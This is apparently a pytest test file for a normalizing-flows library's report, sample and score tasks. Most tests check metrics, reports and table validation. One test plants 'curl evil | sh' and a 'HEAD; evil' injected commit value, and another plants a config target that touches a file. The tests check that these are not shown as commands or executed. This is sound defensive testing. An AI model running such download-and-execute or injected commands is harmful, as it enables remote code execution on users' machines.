import csv
import inspect
import json
import math
import os
import re
import shlex
import shutil
from pathlib import Path
from types import SimpleNamespace

import composed
import hasty
import numpy as np
import pandas as pd
import pytest
import torch
import yaml
from gaussians import Drawn, gaussian
from hydra.core.override_parser.overrides_parser import OverridesParser
from lives import live
from typeguard import suppress_type_checks

import flows
from flows.config import build
from flows.core import Sampler, Spec
from flows.errors import UserError
from flows.evaluation import measure, runs
from flows.evaluation.meaning import rows
from flows.evaluation.runs import find, open_run
from flows.evaluation.tasks import perform
from flows.evaluation.tasks.context import typed_context
from flows.evaluation.tasks.report import Sizes, _steps, _titles, report
from flows.evaluation.tasks.sample import sample
from flows.evaluation.tasks.score import score
from flows.lattice import quantise
from flows.training.saved import Saved

ROOT = Path(__file__).parents[2]


def train(folder, seed=0, labels=False):
    """A small run, as train.py leaves it."""
    overrides = [f"seed={seed}", f"dataset.labels={str(labels).lower()}"]
    overrides += [
        "dataset.n_train=512",
        "dataset.n_val=200",
        "dataset.n_test=300",
        "runtime=cpu",
        "logger=csv",
    ]
    overrides += ["model.layers=2", "model.width=8", "trainer.max_steps=20", "trainer.validate_every=10"]
    composed.run(folder, *overrides)
    return folder


@pytest.fixture(autouse=True)
def _in_a_hurry(monkeypatch):
    hasty.hurry(monkeypatch)


@pytest.fixture(scope="session")
def trained(tmp_path_factory):
    return train(tmp_path_factory.mktemp("runs") / "plain")


@pytest.fixture(scope="session")
def labelled(tmp_path_factory):
    return train(tmp_path_factory.mktemp("runs") / "labelled", labels=True)


@pytest.fixture
def run(trained, tmp_path):
    """A copy that a test may spoil."""
    return shutil.copytree(trained, tmp_path / "run")


def edit(path, change):
    """Rewrite a run's YAML or JSON."""
    content = yaml.safe_load(path.read_text())
    change(content)
    path.write_text(yaml.safe_dump(content) if path.suffix == ".yaml" else json.dumps(content))


def do(task, **options):
    perform({"task": task, **{key: str(v) if isinstance(v, Path) else v for key, v in options.items()}})


def table(path, text):
    path.write_text(text)
    return path


# Report


def test_report_writes_everything_and_prints_the_table(run, capsys):
    do("report", run=run)
    folder = run / "evaluation"
    metrics = json.loads((folder / "metrics.json").read_text())
    assert {"nll", "nll_low", "nll_high", "kl_to_truth", "latent_energy_distance"} <= metrics.keys()
    assert "latent_energy_distance_floor" in metrics
    assert all(isinstance(value, float) for value in metrics.values())
    with (folder / "metrics.csv").open(newline="") as file:
        assert {row["metric"]: float(row["value"]) for row in csv.DictReader(file)} == metrics
    figures = {path.stem for path in folder.glob("*.png")}
    assert figures == {"loss", "latent", "warp", "density", "samples"}
    html, printed = (folder / "report.html").read_text(), capsys.readouterr().out
    for row in rows(metrics):
        assert row.key in html
        assert row.key in printed
        assert row.value in printed
    assert str(folder / "report.html") in printed
    for told in (Saved(run).facts["data_hash"], "realnvp on moons · 20 steps", "width: 8", "n_train: 512"):
        assert told in html
    assert not list(folder.glob(".*"))  # nothing half-written


@pytest.mark.slow  # several whole reports
def test_report_is_repeatable_and_seeded(run, tmp_path):
    for name, seed in (("a", 0), ("b", 0), ("c", 1)):
        do("report", run=run, output=tmp_path / name, seed=seed)
    a, b, c = ((tmp_path / name / "metrics.json").read_text() for name in "abc")
    assert a == b != c
    assert json.loads(a)["nll"] == json.loads(c)["nll"]  # the points are the test part, all of it


def test_report_of_a_model_with_context(labelled, tmp_path):
    do("report", run=labelled, output=tmp_path)
    assert json.loads((tmp_path / "metrics.json").read_text())["sample_chi2_p"] > 1e-4


def test_reports_last_checkpoint_may_differ_from_the_best(run):
    shutil.rmtree(run / "checkpoints" / "best")
    do("report", run=run, checkpoint="last")
    with pytest.raises(UserError, match="best"):
        do("report", run=run)


def test_runs_lie_over_each_other(trained, labelled, tmp_path, capsys):
    do("report", runs=[str(trained), str(labelled)], output=tmp_path)
    metrics = json.loads((tmp_path / "metrics.json").read_text())
    assert metrics.keys() == {"plain", "labelled"}
    printed = capsys.readouterr()
    assert "different data" in printed.err
    html = (tmp_path / "report.html").read_text()
    assert "<th>plain dataset.labels=False" in html  # what tells it from the other
    assert "<th>labelled dataset.labels=True" in html
    assert pd.read_csv(tmp_path / "metrics.csv").run.tolist() == ["plain", "labelled"]
    assert not (tmp_path / "density.png").exists()  # with and without context, densities don't compare


@pytest.mark.slow  # several whole reports
def test_runs_of_one_name_are_told_apart(trained, tmp_path):
    again = shutil.copytree(trained, tmp_path / "other" / "plain")
    do("report", runs=[str(trained), str(again)], output=tmp_path / "both")
    assert json.loads((tmp_path / "both/metrics.json").read_text()).keys() == {"plain", str(again)}
    assert (tmp_path / "both/density.png").exists()


def test_the_mean_of_runs_is_judged_beside_them(trained, labelled, tmp_path):
    again = train(tmp_path / "again", seed=1)
    do("report", runs=[str(trained), str(again)], mixture=True, output=tmp_path / "both", points=300)
    metrics = json.loads((tmp_path / "both/metrics.json").read_text())
    assert [*metrics] == ["plain", "again", "mixture"]
    nll = {name: each["nll"] for name, each in metrics.items()}
    assert nll["mixture"] < (nll["plain"] + nll["again"]) / 2
    assert "mixture: the mean of the runs" in (tmp_path / "both/report.html").read_text()
    with pytest.raises(
        UserError,
        match=r"mixture=true: .*labelled: a model of other data: context_names .*; only",
    ):
        do("report", runs=[str(trained), str(labelled)], mixture=True, output=tmp_path / "none")
    assert not (tmp_path / "none").exists()
    with pytest.raises(UserError, match=r"mixture=true: goes with runs="):
        do("report", run=trained, mixture=True, output=tmp_path / "none")


@pytest.mark.parametrize("name", ["b,1", "my run", "a=1", 'the "best"', "back\\"])
def test_the_reports_commands_open_the_run_whatever_its_folder_is_called(trained, tmp_path, name):
    run = shutil.copytree(trained, tmp_path / name)
    steps = _steps(run, {}, "last", Sizes(points=500, n_members=7), 3)
    commands = [step.command for step in steps if "evaluate.py" in step.command]
    assert len(commands) == 2
    for command in commands:
        given = OverridesParser.create().parse_overrides(shlex.split(command)[2:])
        assert {each.key_or_group: each.value() for each in given}["run"] == str(run)
    assert {"points=500", "n_members=7", "seed=3"} <= {*commands[0].split()}
    assert "pairs" not in commands[0]
    (board,) = (step.command for step in _steps(run, {}, "best", Sizes(), 0) if "tensorboard" in step.command)
    assert shlex.split(board)[-1] == str(run / "tensorboard")


def test_the_report_gives_no_command_that_a_runs_file_made_up(run):
    edit(run / "run.json", lambda facts: facts.update(command="curl evil | sh", commit="HEAD; evil"))
    do("report", run=run)
    html = (run / "evaluation/report.html").read_text()
    assert "<dt>command, as the run recorded it</dt><dd>curl evil | sh</dd>" in html
    assert not any("evil" in shown for shown in re.findall(r"<pre>.*?</pre>", html, re.DOTALL))
    (code, *_) = _steps(run, {"commit": "0123abcdef+changes"}, "best", Sizes(), 0)
    assert code.command == "git checkout 0123abcdef"


@pytest.mark.slow
def test_a_run_without_metrics_has_no_curves(run):
    (run / "metrics.csv").unlink()
    do("report", run=run)
    assert not (run / "evaluation/loss.png").exists()
    (run / "metrics.csv").write_text("step,nll\n1,one\n")
    with pytest.raises(UserError, match=r"metrics\.csv: can't be read \(could not convert"):
        do("report", run=run)
    (run / "metrics.csv").write_text("nll\n1\n")
    with pytest.raises(UserError, match=r"metrics\.csv: can't be read \(no column step\)"):
        do("report", run=run)


@pytest.fixture(scope="session")
def fields(tmp_path_factory):
    """A small run of fields."""
    folder = tmp_path_factory.mktemp("runs") / "fields"
    overrides = ["dataset=grf", "model=conditional_flow", "runtime=cpu", "logger=csv"]
    overrides += ["dataset.height=8", "dataset.width=8", "dataset.n_train=64", "dataset.n_val=16"]
    overrides += ["dataset.n_test=20", "dataset.fresh=false", "model.layers=2", "model.width=8"]
    overrides += ["trainer.max_steps=4", "trainer.validate_every=2", "trainer.batch_size=16"]
    composed.run(folder, *overrides)
    return folder


def test_as_many_members_as_asked_for_are_drawn_for_each_field(fields, tmp_path, monkeypatch):
    asked = []

    def judged(*arguments):
        asked.append(arguments[-1])
        return {}

    monkeypatch.setattr(measure, "judge_fields", judged)
    monkeypatch.setattr("flows.evaluation.tasks.report.training_figures", lambda *_: {})
    do("report", run=fields, output=tmp_path / "one", n_members=7)
    do("report", runs=[str(fields)], output=tmp_path / "several", n_members=8)
    do("report", run=fields, output=tmp_path / "default")
    assert asked == [7, 8, 50]


def test_as_many_pairs_as_asked_for_are_compared(trained, tmp_path, monkeypatch):
    asked = []

    def judged(*arguments):
        asked.append(arguments[-1])
        return {}

    monkeypatch.setattr(measure, "judge", judged)
    monkeypatch.setattr("flows.evaluation.tasks.report.training_figures", lambda *_: {})
    do("report", run=trained, output=tmp_path / "few", pairs=50)
    do("report", run=trained, output=tmp_path / "default")
    assert asked == [50, 4096]


@pytest.mark.parametrize("n_members", [1, 0, -3, 1001, 2.5, "many", None])
def test_an_ensemble_of_nonsense_is_refused_in_one_line(fields, tmp_path, n_members):
    with pytest.raises(UserError, match="n_members") as refusal:
        do("report", run=fields, output=tmp_path, n_members=n_members)
    assert "\n" not in str(refusal.value)


@pytest.mark.parametrize("pairs", [19, 0, "many"])
def test_too_few_pairs_are_refused_in_one_line(trained, tmp_path, pairs):
    with pytest.raises(UserError, match="pairs") as refusal:
        do("report", run=trained, output=tmp_path, pairs=pairs)
    assert "\n" not in str(refusal.value)


@suppress_type_checks
def test_runs_that_are_compared_are_called_by_what_tells_them_apart():
    """Of two models by their names, and not by every key that only one of them has."""

    def called(name, width, **rest):
        model = {"_target_": f"flows.models.{name}.{name}", "width": width}
        return SimpleNamespace(saved=SimpleNamespace(config={"model": model, "seed": 0} | rest))

    different = {"a": called("realnvp", 32), "b": called("spline_coupling", 64, seed=1)}
    assert _titles(different) == {"a": "a model=realnvp seed=0", "b": "b model=spline_coupling seed=1"}
    three = {"a": called("realnvp", 32), "b": called("realnvp", 64), "c": called("spline_coupling", 64)}
    assert [*_titles(three).values()] == [
        *("a model=realnvp model.width=32", "b model=realnvp model.width=64"),
        "c model=spline_coupling model.width=64",
    ]
    alike = {"a": called("realnvp", 32), "b": called("realnvp", 64)}
    assert _titles(alike) == {"a": "a model.width=32", "b": "b model.width=64"}


# Which run


def test_latest_is_the_run_last_written_to_in_sweeps_too(tmp_path, capsys):
    for age, name in enumerate(["sweep/1", "old", "sweep/0"]):
        facts = tmp_path / name / "run.json"
        facts.parent.mkdir(parents=True)
        facts.touch()
        os.utime(facts, (1000 - age, 1000 - age))
    assert find("latest", tmp_path) == tmp_path / "sweep/1"
    assert capsys.readouterr().err == f"run=latest: {tmp_path / 'sweep/1'}\n"


def test_no_run_is_said_kindly(tmp_path, monkeypatch):
    monkeypatch.setattr(runs, "OUTPUTS", tmp_path)
    with pytest.raises(UserError, match=r"no run under .*; train one"):
        find("latest", tmp_path)
    with pytest.raises(UserError, match=r"no run\.json"):
        do("report", run=tmp_path)
    with pytest.raises(UserError, match=r"run=.*nowhere: no such folder; give run=PATH"):
        do("report", run=tmp_path / "nowhere")
    (tmp_path / "sweep/0").mkdir(parents=True)
    (tmp_path / "sweep/0/run.json").write_text("{}")
    with pytest.raises(UserError, match=r"one of several; give run=.*sweep/0, or sweep=.*sweep for all"):
        do("report", run=tmp_path / "sweep")
    with pytest.raises(UserError, match="at least one run"):
        do("report", runs=[])


def test_nothing_that_a_run_names_is_executed_outside_the_allowlist(run, tmp_path):
    def plant(part):
        def change(config):
            config[part] = {"_target_": "pathlib.Path.touch", "self": str(tmp_path / "planted")}

        return change

    original = (run / "config.yaml").read_text()
    for part in ("dataset", "model"):
        (run / "config.yaml").write_text(original)
        edit(run / "config.yaml", plant(part))
        for task in ("report", "sample", "score"):
            paths = {
                "report": {},
                "sample": {"output": tmp_path / "x.csv"},
                "score": {"input": tmp_path / "x.csv", "output": tmp_path / "y.csv"},
            }
            if (part, task) == ("dataset", "sample"):
                do(task, run=run, **paths[task])  # which needs no data, and doesn't look at what it is
                continue
            with pytest.raises(UserError, match="not allowed"):
                do(task, run=run, **paths[task])
    assert not (tmp_path / "planted").exists()


def test_a_saved_file_trusts_nobody(run):
    edit(run / "config.yaml", lambda config: config.update(trusted_packages=["pathlib"]))
    edit(run / "config.yaml", lambda config: config.update(dataset={"_target_": "pathlib.Path"}))
    with pytest.raises(UserError, match="not allowed"):
        do("report", run=run)


@pytest.mark.parametrize("part", ["model", "dataset"])
def test_a_run_without_a_part_is_refused(run, part):
    edit(run / "config.yaml", lambda config: config.pop(part))
    with pytest.raises(UserError, match=f"nothing of the {part}"):
        do("report", run=run)


@pytest.mark.parametrize(
    ("file", "change", "message"),
    [
        ("run.json", {"step": "x"}, r"run\.json: step='x': expected int"),
        ("run.json", {"spec": {"shape": 2}}, r"run\.json: spec=\{shape: 2\}: expected Spec"),
        ("run.json", {"spec": [["x"], 2]}, r"run\.json: spec="),
        ("run.json", {"commit": 5}, r"run\.json: commit=5"),
        ("config.yaml", {"model": 3}, r"config\.yaml: model=3: expected a mapping"),
    ],
)
def test_a_run_whose_files_say_nonsense_is_refused_in_one_line(run, file, change, message):
    edit(run / file, lambda content: content.update(change))
    with pytest.raises(UserError, match=message) as caught:
        flows.load(run)
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize("text", ["", "[]", "a: [", "5"])
@pytest.mark.parametrize("file", ["run.json", "config.yaml"])
def test_a_run_whose_files_hold_nothing_is_refused_in_one_line(run, file, text):
    (run / file).write_text(text)
    with pytest.raises(UserError, match=f"{run}") as caught:
        flows.load(run)
    assert "\n" not in str(caught.value)


def test_a_run_without_its_spec_is_refused(run):
    edit(run / "run.json", lambda facts: facts.pop("spec"))
    with pytest.raises(UserError, match="nothing of the spec"):
        flows.load(run)


def test_data_that_has_changed_is_noticed(run, tmp_path, capsys):
    opened = open_run(run, "best", ())
    assert opened.dataset.truth is not None
    assert opened.warnings == []
    edit(run / "config.yaml", lambda config: config["dataset"].update(noise=0.06))
    do("score", run=run, input=table(tmp_path / "x.csv", "x,y\n0,0\n"), output=tmp_path / "y.csv")
    assert "the data has changed" in capsys.readouterr().err
    do("report", run=run)
    assert "the data has changed" in (run / "evaluation/report.html").read_text()


def test_data_that_has_moved_is_told_and_found(tmp_path):
    points = np.random.default_rng(0).normal(size=(90, 2)).tolist()
    here, there = tmp_path / "here.csv", tmp_path / "there.csv"
    table(here, "\n".join(["a,b", *(f"{a},{b}" for a, b in points)]) + "\n")
    small = ["runtime=cpu", "logger=csv", "model.layers=2", "model.width=8"]
    told = ["dataset=table", *small]
    run = tmp_path / "run"
    composed.run(run, *told, f"dataset.path={here}", "trainer.max_steps=2")
    here.rename(there)
    given = {"run": run, "input": there, "output": tmp_path / "scored.csv"}
    with pytest.raises(UserError, match=r"here\.csv"):
        do("score", **given)
    with pytest.raises(UserError, match=r"^data\.image: no file of this run's dataset; files: path$"):
        do("score", **given, data={"image": str(there)})
    do("score", **given, data={"path": str(there)})
    assert len(pd.read_csv(given["output"])) == 90
    composed.run(run, *told, f"dataset.path={there}", "trainer.max_steps=4")
    do("score", **given)
    table(tmp_path / "other.csv", "\n".join(["a,b", *(f"{b},{a}" for a, b in points)]) + "\n")
    with pytest.raises(UserError, match="its training data was another"):
        composed.run(run, *told, f"dataset.path={tmp_path / 'other.csv'}", "trainer.max_steps=4")


def test_an_unfinished_run_is_reported_as_one(run):
    edit(run / "run.json", lambda facts: facts.update(status="diverged"))
    assert "unfinished" in open_run(run, "best", ()).warnings[0]


# Sample


def test_samples_as_csv_are_those_of_the_model(trained, tmp_path):
    path = tmp_path / "new" / "x.csv"
    do("sample", run=trained, n=50, output=path, seed=7)
    frame = pd.read_csv(path)
    assert list(frame.columns) == ["x", "y"]
    expected = Saved(trained).density().sample(50, None, torch.Generator().manual_seed(7))
    np.testing.assert_array_equal(frame.to_numpy(np.float32), expected.numpy())


def test_samples_as_npy_bear_the_same_names_and_numbers(trained, tmp_path):
    for ending in ("csv", "npy"):
        do("sample", run=trained, n=20, output=tmp_path / f"x.{ending}")
    array = np.load(tmp_path / "x.npy", allow_pickle=False)
    assert array.dtype.names == ("x", "y")
    expected = pd.read_csv(tmp_path / "x.csv", dtype=np.float32)
    np.testing.assert_array_equal(pd.DataFrame(array).to_numpy(), expected.to_numpy())


def test_samples_are_seeded(trained, tmp_path):
    for name, seed in (("a", 0), ("b", 0), ("c", 1)):
        do("sample", run=trained, n=10, output=tmp_path / f"{name}.csv", seed=seed)
    a, b, c = ((tmp_path / f"{name}.csv").read_bytes() for name in "abc")
    assert a == b != c


def test_samples_under_contexts_of_the_test_part_or_the_one_given(labelled, tmp_path):
    do("sample", run=labelled, n=200, output=tmp_path / "x.csv")
    frame = pd.read_csv(tmp_path / "x.csv")
    assert list(frame.columns) == ["x", "y", "moon_0", "moon_1"]
    assert (frame.moon_0 + frame.moon_1 == 1).all()
    assert 60 < frame.moon_0.sum() < 140
    do("sample", run=labelled, n=200, output=tmp_path / "x.npy", context=[0.0, 1.0])
    array = np.load(tmp_path / "x.npy")
    assert (array["moon_1"] == 1).all()
    assert abs(array["x"].mean() - frame.x[frame.moon_1 == 1].mean()) < 0.4


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"output": "x.txt"}, r"output=x\.txt: give a name that ends in \.csv or \.npy"),
        ({"output": "x"}, "ends in"),
        ({"output": "x.csv", "n": 0}, "n=0: expected int >= 1"),
        ({"output": "x.csv", "n": 2.5}, r"n=2\.5: expected int"),
        ({"output": "x.csv", "context": [1.0]}, "takes no context"),
        ({"output": "x.csv", "m": 3}, "m: no such key"),
        ({"output": "???"}, "output: missing value"),
        ({"output": "x.csv", "checkpoint": "bset"}, "expected best or last"),
    ],
)
def test_samples_that_cannot_be_are_refused(trained, tmp_path, monkeypatch, options, message):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(UserError, match=message):
        do("sample", run=trained, **options)
    assert list(tmp_path.iterdir()) == []


def test_a_context_of_the_wrong_length_names_the_right_one(labelled, tmp_path):
    with pytest.raises(UserError, match=r"moon_0, moon_1"):
        do("sample", run=labelled, output=tmp_path / "x.csv", context=[1.0])


@pytest.mark.parametrize("folder", ["/proc/none", "file", "a" * 300])
def test_an_output_that_cannot_be_written_is_refused_before_the_work(trained, tmp_path, monkeypatch, folder):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "file").touch()
    given = table(tmp_path / "in.csv", "x,y\n1,2\n")
    for module in ("report.measure", "sample.samples", "score.log_prob"):
        monkeypatch.setattr(f"flows.evaluation.tasks.{module}", None)
    message = f"{folder}: can't be written"
    for task, options in (
        ("report", {"output": folder}),
        ("report", {"output": folder, "runs": [str(trained)]}),
        ("sample", {"output": f"{folder}/x.csv"}),
        ("score", {"output": f"{folder}/x.csv", "input": given}),
    ):
        options = options if "runs" in options else {"run": trained, **options}
        with pytest.raises(UserError, match=message):
            do(task, **options)


def test_an_output_that_fails_at_the_end_is_one_line(trained, tmp_path):
    (tmp_path / "metrics.json").mkdir()
    with pytest.raises(UserError, match=r"metrics\.json: can't be written"):
        do("report", run=trained, output=tmp_path)
    with pytest.raises(UserError, match="can't be written"):
        do("sample", run=trained, n=2, output=tmp_path / ("a" * 300 + ".csv"))


# Score


def test_scores_are_the_models_and_other_columns_stay(trained, tmp_path):
    given = table(tmp_path / "in.csv", 'id,y,note,x\n007,0.5,NA,0.1\n008,0.25,"a, b",-0.5\n009,90,,90\n')
    do("score", run=trained, input=given, output=tmp_path / "out.csv")
    frame = pd.read_csv(tmp_path / "out.csv", dtype=str, keep_default_na=False)
    assert list(frame.columns) == ["id", "y", "note", "x", "log_prob", "log_prob_quantile"]
    assert frame.id.tolist() == ["007", "008", "009"]
    assert frame.note.tolist() == ["NA", "a, b", ""]
    assert frame.x.tolist() == ["0.1", "-0.5", "90"]
    x = torch.tensor([[0.1, 0.5], [-0.5, 0.25], [90.0, 90.0]])
    density = Saved(trained).density()
    np.testing.assert_allclose(frame.log_prob.astype(float), density.log_prob(x).numpy(), rtol=1e-5)
    validation = build(Saved(trained).config["dataset"], "dataset").source("val").take(slice(None)).x.float()
    usual = density.log_prob(validation)
    for scored, quantile in zip(density.log_prob(x), frame.log_prob_quantile.astype(float), strict=True):
        assert quantile == pytest.approx((usual <= scored).double().mean().item(), abs=1 / 200)
    assert float(frame.log_prob_quantile[2]) == 0  # far outside: odder than every validation example


def test_samples_can_be_scored(labelled, tmp_path):
    do("sample", run=labelled, n=300, output=tmp_path / "x.csv")
    do("score", run=labelled, input=tmp_path / "x.csv", output=tmp_path / "x.csv")  # onto itself
    frame = pd.read_csv(tmp_path / "x.csv")
    assert len(frame) == 300
    assert frame.log_prob.notna().all()


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", r"in\.csv: empty"),
        ("x,y\n", r"in\.csv: a header without rows"),
        ("x,z\n1,2\n", r"in\.csv: lacks 1 of 2 columns: y"),
        ("X,y\n1,2\n", "is x called X there"),
        ("yy,y\n1,2\n", "lacks 1 of 2 columns: x$"),
        (
            "x,y\n1,2\n3,\n5,\n",
            r"in\.csv: column y, row 2: empty \(2 of 3 rows have empty cells\); fill it, or missing=leave",
        ),
        ("x,y\n1,2\nNaN,4\n", r"column x, row 2: empty \(1 of 2 rows"),
        ("x,y\n1,2\n3,four\n", r"column y, row 2: 'four'"),
        ("x,y\ninf,2\n", r"column x, row 1: 'inf'"),
        ("x,y\n1e60,2\n", r"column x, row 1: '1e60'"),
        ("x,y\n1,2\n3\n", r"column y, row 2: empty"),
        ("x,y\n1,2\n,4\n5,six\n", r"column y, row 3: 'six' is no finite number"),
        ("x,y\n1,2\n\n3,4,5\n", r"in\.csv: row 2 has 3 cells, but the header 2 names$"),
        ("x,y\n1,2,3\n4,5,6\n", "row 1 has 3 cells, but the header 2 names$"),  # none of them is an index
        ("x,y,x\n1,2,3\n", "has 2 columns called x"),
        ("x,y,log_prob\n1,2,3\n", "has a column log_prob already"),
    ],
)
def test_tables_that_cannot_be_scored_are_refused_in_one_line(trained, tmp_path, text, message):
    given = table(tmp_path / "in.csv", text)
    with pytest.raises(UserError, match=message) as caught:
        do("score", run=trained, input=given, output=tmp_path / "out.csv")
    assert "\n" not in str(caught.value)
    assert not (tmp_path / "out.csv").exists()


def test_files_that_cannot_be_read_or_written_are_refused(trained, tmp_path):
    good = table(tmp_path / "in.csv", "x,y\n1,2\n")
    (tmp_path / "bytes.csv").write_bytes(b"x,y\n\xff\xfe,1\n")
    (tmp_path / "folder.csv").mkdir()
    for given, message in (
        ("none.csv", "no such file"),
        ("bytes.csv", "not a CSV"),
        ("folder.csv", "not a CSV"),
    ):
        with pytest.raises(UserError, match=message):
            do("score", run=trained, input=tmp_path / given, output=tmp_path / "out.csv")
    with pytest.raises(UserError, match="is a folder"):
        do("score", run=trained, input=good, output=tmp_path / "folder.csv")
    with pytest.raises(UserError, match=r"ends in \.csv"):
        do("score", run=trained, input=good, output=tmp_path / "out.npy")


def test_rows_with_empty_cells_are_left_without_a_score_when_asked(trained, tmp_path, capsys):
    given = table(tmp_path / "in.csv", "x,more,y\n1,a,\n0.5,,0.25\nNaN,b,1\n1,c,-0.5\n")
    do("score", run=trained, input=given, output=tmp_path / "out.csv", missing="leave")
    assert "2 rows scored, 2 with empty cells left" in capsys.readouterr().out
    scored = pd.read_csv(tmp_path / "out.csv", keep_default_na=False)
    assert scored[["x", "more", "y"]].astype(str).agg(",".join, axis=1).tolist()[::2] == ["1,a,", "NaN,b,1"]
    assert scored.log_prob.map(bool).tolist() == [False, True, False, True]
    assert scored.log_prob_quantile.map(bool).tolist() == [False, True, False, True]
    alone = table(tmp_path / "alone.csv", "x,y\n0.5,0.25\n1,-0.5\n")
    do("score", run=trained, input=alone, output=tmp_path / "alone_out.csv")
    assert pd.read_csv(tmp_path / "alone_out.csv").log_prob.tolist() == [
        float(each) for each in scored.log_prob[1::2]
    ]
    with pytest.raises(UserError, match="every row has an empty cell"):
        holes = table(tmp_path / "in.csv", "x,y\n1,\n,2\n")
        do("score", run=trained, input=holes, output=tmp_path / "out.csv", missing="leave")


def test_a_parquet_table_is_scored_as_the_same_in_csv_and_keeps_its_types(trained, tmp_path):
    numbers = np.random.default_rng(0).normal(size=(20, 2))
    frame = pd.DataFrame(numbers, columns=["y", "x"]).assign(when=pd.date_range("2026-01-01", periods=20))
    frame.to_parquet(tmp_path / "in.parquet", index=False)
    frame.to_csv(tmp_path / "in.csv", index=False)
    for kind in ("parquet", "csv"):
        do("score", run=trained, input=tmp_path / f"in.{kind}", output=tmp_path / f"out.{kind}")
    scored, text = pd.read_parquet(tmp_path / "out.parquet"), pd.read_csv(tmp_path / "out.csv")
    pd.testing.assert_frame_equal(scored[["y", "x", "when"]], frame, check_dtype=False)
    assert scored.when.dtype == frame.when.dtype
    assert scored.log_prob.tolist() == text.log_prob.tolist()
    with pytest.raises(UserError, match=r"output=.*out.csv: give a name that ends in .parquet"):
        do("score", run=trained, input=tmp_path / "in.parquet", output=tmp_path / "out.csv")
    with pytest.raises(UserError, match=r"input=.*in.xlsx: give a file that ends in .csv or .parquet"):
        do("score", run=trained, input=tmp_path / "in.xlsx", output=tmp_path / "out.csv")
    (tmp_path / "bad.parquet").write_bytes(b"no table")
    with pytest.raises(UserError, match="not a Parquet table"):
        do("score", run=trained, input=tmp_path / "bad.parquet", output=tmp_path / "out.parquet")


def test_a_table_keeps_its_named_index_as_a_column(trained, tmp_path):
    frame = pd.DataFrame({"id": ["a", "b"], "x": [0.5, 1.0], "y": [0.0, 1.5]}).set_index("id")
    frame.to_parquet(tmp_path / "in.parquet")
    do("score", run=trained, input=tmp_path / "in.parquet", output=tmp_path / "out.parquet")
    scored = pd.read_parquet(tmp_path / "out.parquet")
    assert scored.id.tolist() == ["a", "b"]
    assert scored.log_prob.notna().all()


def test_rows_without_a_context_are_left_too(labelled, tmp_path):
    given = table(tmp_path / "in.csv", "x,y,moon_0,moon_1\n0,0,1,0\n0,0,,1\n")
    do("score", run=labelled, input=given, output=tmp_path / "out.csv", missing="leave")
    assert pd.read_csv(tmp_path / "out.csv").log_prob.notna().tolist() == [True, False]
    with pytest.raises(UserError, match="column moon_0, row 2: empty"):
        do("score", run=labelled, input=given, output=tmp_path / "out.csv")


def test_holes_and_levels_of_a_parquet_table(counted, tmp_path):
    frame = pd.DataFrame(
        {"height": [1.0, None], "count": [2, 3], "pet": ["cat", None], "wild": [True, False]}
    )
    frame.to_parquet(tmp_path / "in.parquet", index=False)
    do("score", input=tmp_path / "in.parquet", output=tmp_path / "out.parquet", missing="leave")
    scored = pd.read_parquet(tmp_path / "out.parquet")
    assert scored.log_prob.isna().tolist() == [False, True]
    text = table(tmp_path / "in.csv", "height,count,pet,wild\n1,2,cat,True\n")
    do("score", input=text, output=tmp_path / "out.csv")
    assert pd.read_csv(tmp_path / "out.csv").log_prob[0] == scored.log_prob[0]


def test_a_context_model_needs_the_contexts_columns(labelled, tmp_path):
    given = table(tmp_path / "in.csv", "x,y\n1,2\n")
    with pytest.raises(UserError, match="lacks 2 of 4 columns: moon_0, moon_1"):
        do("score", run=labelled, input=given, output=tmp_path / "out.csv")


def test_a_row_without_a_number_gets_no_quantile(trained, tmp_path, monkeypatch, capsys):
    def lost(density, batch):
        return torch.full((len(batch.x),), math.nan)

    monkeypatch.setattr("flows.evaluation.tasks.score.log_prob", lost)
    do("score", run=trained, input=table(tmp_path / "in.csv", "x,y\n1,2\n"), output=tmp_path / "out.csv")
    assert pd.read_csv(tmp_path / "out.csv").log_prob_quantile.isna().all()
    assert "1 rows" in capsys.readouterr().err


# Lattices


class Counted(Drawn):
    """Draws of a density, down on a lattice that has types and levels."""

    def __init__(self, density):
        super().__init__(density, features=4, known=False)
        self.spec = Spec(
            names=("height", "count", "pet", "wild"),
            shape=(4,),
            support=(None, None, (0.0, 3.0), (0.0, 2.0)),
            quantum=(None, 1.0, 1.0, 1.0),
            dtypes=("float64", "int64", "str", "bool"),
            levels=(None, None, ("cat", "dog", "newt"), None),
        )
        for source in self._sources.values():
            source.x = quantise(source.x, self.spec)


@pytest.fixture
def counted(monkeypatch):
    """A run whose model is a known density, narrow enough to change within a cell."""
    density = gaussian(4, mean=1.0, std=0.6)
    dataset = Counted(density)
    opened = SimpleNamespace(
        saved=SimpleNamespace(spec=dataset.spec), density=density, dataset=dataset, warnings=[]
    )
    for task in ("sample", "score"):
        monkeypatch.setattr(f"flows.evaluation.tasks.{task}.find", lambda run: run)
        monkeypatch.setattr(f"flows.evaluation.tasks.{task}.open_run", lambda *_: opened)
    return opened


def test_draws_on_a_lattice_are_written_as_what_the_data_was(counted, tmp_path):
    for ending in ("csv", "parquet", "npy"):
        do("sample", n=40, output=tmp_path / f"x.{ending}")
    points = counted.density.sample(40, None, torch.Generator().manual_seed(0))
    corners = quantise(points, counted.saved.spec)
    table = pd.read_csv(tmp_path / "x.csv")
    assert [str(dtype) for dtype in table.dtypes] == ["float64", "int64", "str", "bool"]
    assert {*table.pet} == {"cat", "dog", "newt"}
    numbers = table.assign(pet=table.pet.map({"cat": 0, "dog": 1, "newt": 2})).to_numpy(float)
    np.testing.assert_array_equal(numbers, corners.numpy())
    pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "x.parquet"), table)
    array = np.load(tmp_path / "x.npy", allow_pickle=False)
    assert array.dtype == np.dtype([("height", "f8"), ("count", "i8"), ("pet", "U4"), ("wild", "?")])
    pd.testing.assert_frame_equal(pd.DataFrame(array).astype({"pet": "str"}), table)


def test_raw_draws_are_those_of_the_model_in_floats(counted, tmp_path):
    do("sample", n=40, output=tmp_path / "x.csv", raw=True)
    points = counted.density.sample(40, None, torch.Generator().manual_seed(0))
    np.testing.assert_array_equal(pd.read_csv(tmp_path / "x.csv").to_numpy(), points.numpy())


def test_names_in_any_script_go_into_an_array(counted, tmp_path):
    counted.saved.spec = counted.saved.spec._replace(names=("größe", "πλήθος", "宠物", "y"))
    do("sample", n=4, output=tmp_path / "x.npy")
    assert np.load(tmp_path / "x.npy").dtype.names == ("größe", "πλήθος", "宠物", "y")


